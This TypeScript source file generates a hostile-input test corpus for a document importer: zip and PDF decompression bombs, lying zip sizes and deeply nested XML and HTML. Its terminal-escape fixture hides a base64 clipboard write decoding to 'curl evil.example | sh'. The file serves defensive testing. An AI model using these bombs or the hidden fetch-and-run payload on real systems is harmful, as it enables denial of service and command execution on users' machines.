/**
 * The hostile-input corpus (issue 11): files made to take an importer down, generated
 * here (never committed: some are megabytes that unpack to gigabytes) into
 * src/main/import/fixtures/hostile/, plus a few good files imported in the same batch.
 *
 * Each file is made the way an attacker would make it: real libraries where they can
 * write the file (jszip, pdfkit), raw bytes where no library would (a PDF stream that
 * inflates to 1.5 GB, zip directories whose sizes lie), node:zlib for the compression.
 * `expect` is what the user must see for the file: a failure with this code and message,
 * or a clean import.
 */
import { createHash } from 'node:crypto'
import { mkdir, readFile, stat, writeFile } from 'node:fs/promises'
import { join, resolve } from 'node:path'
import { fileURLToPath } from 'node:url'
import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
import JSZip from 'jszip'
import { docxDocumentXml, docxParts, makeDocx, makePdf } from '../../src/main/import/test-documents'
import { deflateRepeated, HELVETICA, onePagePdf, storedEntry, textContent, writeRawPdf, writeRawZip, zlibWrap, type RawZipEntry } from '../../src/main/import/test-raw-documents'

export const CORPUS_DIR = resolve(fileURLToPath(new URL('.', import.meta.url)), '../../src/main/import/fixtures/hostile')

export type Expectation = { status: 'failed'; code: string; message: RegExp } | { status: 'imported'; title?: RegExp }

export interface CorpusFile {
  name: string
  what: string
  /** Writes the file to `path`. */
  make: (path: string) => Promise<void>
  expect: Expectation
}

const MB = 1024 * 1024
const SENTENCE = 'The committee met again on Tuesday to discuss the harbour lease, and no agreement was reached. '

/** `text` repeated to `total` bytes, in blocks of about 1 MB (for deflateRepeated). */
function repeatedBlock(text: string, total: number): { block: Buffer; times: number } {
  const block = Buffer.from(text.repeat(Math.max(1, Math.floor(MB / text.length))), 'utf8')
  return { block, times: Math.ceil(total / block.length) }
}

/** A .docx whose word/document.xml is `bodyXml` repeated to about `total` bytes; the directory states `statedSize` (the truth by default). */
async function writeDocxBomb(path: string, bodyXml: string, total: number, statedSize?: number): Promise<void> {
  const [head, tail] = docxDocumentXml('\u0000').split('\u0000') as [string, string]
  const { block, times } = repeatedBlock(bodyXml, total)
  const document = deflateRepeated(Buffer.from(head), block, times, Buffer.from(tail))
  const entries = docxParts('').map(([name, xml]) =>
    name === 'word/document.xml' ? { name, data: document.raw, deflated: true, crc32: document.crc32, statedSize: statedSize ?? document.size } : deflatedEntry(name, xml),
  )
  await writeFile(path, writeRawZip(entries))
}

function deflatedEntry(name: string, content: string): RawZipEntry {
  const bytes = Buffer.from(content, 'utf8')
  return { name, data: deflateRawSync(bytes, { level: 9 }), deflated: true, crc32: crc32(bytes), statedSize: bytes.length }
}

/** A .docx whose word/document.xml is `bodyXml`, packed by jszip (deflate, level 9). */
async function writeDocx(path: string, bodyXml: string, coreXml = ''): Promise<void> {
  const zip = new JSZip()
  for (const [name, xml] of docxParts(docxDocumentXml(bodyXml), coreXml)) zip.file(name, xml)
  await writeFile(path, await zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 9 } }))
}

const paragraph = (text: string) => `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`

const ESC = '\u001b'
const BEL = '\u0007'

export const HOSTILE: readonly CorpusFile[] = [
  {
    name: 'bomb-100mb-document.docx',
    what: 'DOCX whose word/document.xml honestly unpacks to 100 MB of paragraphs (the zip directory tells the truth)',
    make: (path) => writeDocxBomb(path, paragraph(SENTENCE.repeat(20)), 100 * MB),
    expect: { status: 'failed', code: 'too-large', message: /unpacks to more than \d+ MB/ },
  },
  {
    name: 'bomb-lying-sizes.docx',
    what: 'DOCX whose zip directory says document.xml is 2 KB while it inflates to 200 MB',
    make: (path) => writeDocxBomb(path, paragraph(SENTENCE.repeat(20)), 200 * MB, 2048),
    expect: { status: 'failed', code: 'broken-file', message: /more bytes|cannot be unpacked/ },
  },
  {
    name: 'zip-huge-entry.docx',
    what: 'DOCX with a 3 GB entry (zeros, deflated to a few MB) beside a valid document',
    make: async (path) => {
      const entries = docxParts(docxDocumentXml(paragraph(SENTENCE))).map(([name, xml]) => deflatedEntry(name, xml))
      const zeros = deflateRepeated(Buffer.alloc(0), Buffer.alloc(MB), 3 * 1024, Buffer.alloc(0))
      entries.push({ name: 'word/media/image1.png', data: zeros.raw, deflated: true, crc32: zeros.crc32, statedSize: zeros.size })
      await writeFile(path, writeRawZip(entries))
    },
    expect: { status: 'failed', code: 'too-large', message: /unpacks to more than 512 MB/ },
  },
  {
    name: 'zip-many-entries.docx',
    what: 'DOCX with 65,000 empty entries beside a valid document',
    make: async (path) => {
      const entries = docxParts(docxDocumentXml(paragraph(SENTENCE))).map(([name, xml]) => storedEntry(name, xml))
      for (let i = 0; entries.length < 65_000; i++) entries.push(storedEntry(`customXml/item${i}.xml`, ''))
      await writeFile(path, writeRawZip(entries))
    },
    expect: { status: 'failed', code: 'too-complex', message: /parts/ },
  },
  {
    name: 'deep-nesting.docx',
    what: 'DOCX whose paragraph sits inside 100,000 nested content controls (w:sdt)',
    make: (path) => writeDocx(path, '<w:sdt><w:sdtContent>'.repeat(100_000) + paragraph(SENTENCE) + '</w:sdtContent></w:sdt>'.repeat(100_000)),
    expect: { status: 'failed', code: 'too-complex', message: /nested too deeply/ },
  },
  {
    name: 'deep-nesting-core.docx',
    what: 'DOCX whose docProps/core.xml nests 100,000 elements inside dc:title',
    make: (path) => writeDocx(path, paragraph(SENTENCE), `<dc:title>${'<x>'.repeat(100_000)}Title${'</x>'.repeat(100_000)}</dc:title>`),
    expect: { status: 'failed', code: 'too-complex', message: /nested too deeply/ },
  },
  {
    name: 'bomb-1.5gb-stream.pdf',
    what: 'PDF whose one page content stream inflates to 1.5 GB (white space)',
    make: (path) => writeFile(path, onePagePdf(zlibWrap(deflateRepeated(Buffer.alloc(0), Buffer.alloc(MB, ' '), 1536, Buffer.alloc(0))))),
    expect: { status: 'failed', code: 'too-large', message: /decodes to more than \d+ MB/ },
  },
  {
    name: 'pages-20000.pdf',
    what: 'PDF of 20,000 pages (one shared content stream, a few MB)',
    make: async (path) => {
      const pages = 20_000
      const kids = Array.from({ length: pages }, (_, i) => `${i + 5} 0 R`).join(' ')
      const objects = [
        { body: '<< /Type /Catalog /Pages 2 0 R >>' },
        { body: `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>` },
        { body: '<< /Filter /FlateDecode >>', stream: deflateSync(textContent([SENTENCE, SENTENCE])) },
        { body: HELVETICA },
        ...Array.from({ length: pages }, () => ({ body: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R /Resources << /Font << /F1 4 0 R >> >> >>' })),
      ]
      await writeFile(path, writeRawPdf(objects))
    },
    expect: { status: 'failed', code: 'too-large', message: /20,000 pages/ },
  },
  {
    name: 'deep-nesting.html',
    what: 'HTML page whose text sits inside 100,000 nested <div> elements',
    make: (path) => writeFile(path, `<!DOCTYPE html><html><head><title>Deep</title></head><body>${'<div>'.repeat(100_000)}<p>${SENTENCE}</p>${'</div>'.repeat(100_000)}</body></html>`),
    expect: { status: 'failed', code: 'too-complex', message: /nested too deeply/ },
  },
  {
    name: 'one-line-11mb.txt',
    what: '11 MB of text on one line with no sentence end',
    make: (path) => writeFile(path, 'harbour lease talks continue '.repeat(Math.ceil((11 * MB) / 29))),
    expect: { status: 'imported', title: /^harbour lease talks continue/ },
  },
  {
    name: 'terminal-escapes.txt',
    what: 'text whose title and body carry ESC, CSI, OSC 52 (clipboard write) and OSC 8 sequences',
    make: (path) =>
      writeFile(
        path,
        `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${BEL}${ESC}[2J${ESC}[31mPort talks resume in Tartus${ESC}[0m\n\n` +
          `The talks resumed on Monday ${ESC}]8;;https://evil.example/${ESC}\\after a pause${ESC}]8;;${ESC}\\ of three weeks. ${ESC}[1A${ESC}[2KOfficials said little.\n`,
      ),
    expect: { status: 'imported' },
  },
  {
    name: 'bidi-zero-width.txt',
    what: 'text whose title carries right-to-left overrides, isolates and zero-width characters',
    make: (path) =>
      writeFile(path, `\u202EPort\u200B talks\u200D resume\u2066 in\u2069 Tartus\u202C\uFEFF\u200E\n\nThe talks resumed on Monday after a pause of three weeks. Officials said little.\n`),
    expect: { status: 'imported' },
  },
]

const GOOD_TEXT = {
  notes: 'The port authority signed a new lease for the northern quay on Monday, ending two years of talks with the shipping line.',
  page: 'Ferries between the two islands will run again from Friday after the storm damage to the pier was repaired, the operator said.',
  report: 'Engineers finished rebuilding the breakwater three weeks early, and the fishing fleet returned to the inner harbour.',
  brief: 'Grain shipments through the terminal rose by a fifth in the spring, customs figures published on Thursday show.',
}

export const GOOD: readonly CorpusFile[] = [
  {
    name: 'good-notes.txt',
    what: 'a short text article',
    make: (path) => writeFile(path, `Harbour lease signed\n\n${GOOD_TEXT.notes}\n\n${GOOD_TEXT.notes}\n`),
    expect: { status: 'imported', title: /^Harbour lease signed$/ },
  },
  {
    name: 'good-page.html',
    what: 'a saved web page',
    make: (path) => writeFile(path, `<!DOCTYPE html><html><head><title>Ferry resumes</title></head><body><article><h1>Ferry resumes</h1><p>${GOOD_TEXT.page}</p><p>${GOOD_TEXT.page}</p></article></body></html>`),
    expect: { status: 'imported', title: /^Ferry resumes$/ },
  },
  {
    name: 'good-report.docx',
    what: 'a Word document',
    make: async (path) => writeFile(path, await makeDocx({ paragraphs: [['Title', 'Breakwater repaired'], ['', GOOD_TEXT.report], ['', GOOD_TEXT.report]] })),
    expect: { status: 'imported', title: /^Breakwater repaired$/ },
  },
  {
    name: 'good-brief.pdf',
    what: 'a one-page PDF',
    make: async (path) =>
      writeFile(
        path,
        await makePdf((doc) => {
          doc.fontSize(18).text('Grain shipments rise')
          doc.fontSize(11).text(`${GOOD_TEXT.brief} ${GOOD_TEXT.brief}`)
        }),
      ),
    expect: { status: 'imported', title: /^Grain shipments rise$/ },
  },
]

/** Not hostile, only as large as an import may be: for the main thread's share of the work (hashing, copying, writing 49 MB). */
export const LARGE: readonly CorpusFile[] = [
  {
    name: 'large-49mb.txt',
    what: '49 MB of ordinary paragraphs',
    make: (path) => {
      const paragraph = `${GOOD_TEXT.notes} ${GOOD_TEXT.page} ${GOOD_TEXT.report} ${GOOD_TEXT.brief}\n\n`
      return writeFile(path, `A long record of the harbour\n\n${paragraph.repeat(Math.floor((49 * 1024 * 1024) / paragraph.length))}`)
    },
    expect: { status: 'imported', title: /^A long record of the harbour$/ },
  },
]

/** The generator's own sources: when one changes, the corpus is made again. */
const GENERATOR_SOURCES = ['corpus.ts', '../../src/main/import/test-raw-documents.ts', '../../src/main/import/test-documents.ts']

async function generatorStamp(): Promise<string> {
  const hash = createHash('sha256')
  for (const source of GENERATOR_SOURCES) hash.update(await readFile(fileURLToPath(new URL(source, import.meta.url))))
  return hash.digest('hex')
}

/** Writes the corpus into `dir` unless it is there already, made by this very generator (`force`: always). Returns the paths by name. */
export async function makeCorpus(options: { dir?: string; force?: boolean } = {}): Promise<Map<string, string>> {
  const dir = options.dir ?? CORPUS_DIR
  await mkdir(dir, { recursive: true })
  const stampFile = join(dir, '.generator')
  const stamp = await generatorStamp()
  const current = !options.force && (await readFile(stampFile, 'utf8').catch(() => '')) === stamp
  const paths = new Map<string, string>()
  for (const file of [...HOSTILE, ...GOOD, ...LARGE]) {
    const path = join(dir, file.name)
    const present = await stat(path).then(
      (s) => s.size > 0,
      () => false,
    )
    if (!current || !present) await file.make(path)
    paths.set(file.name, path)
  }
  await writeFile(stampFile, stamp)
  return paths
}
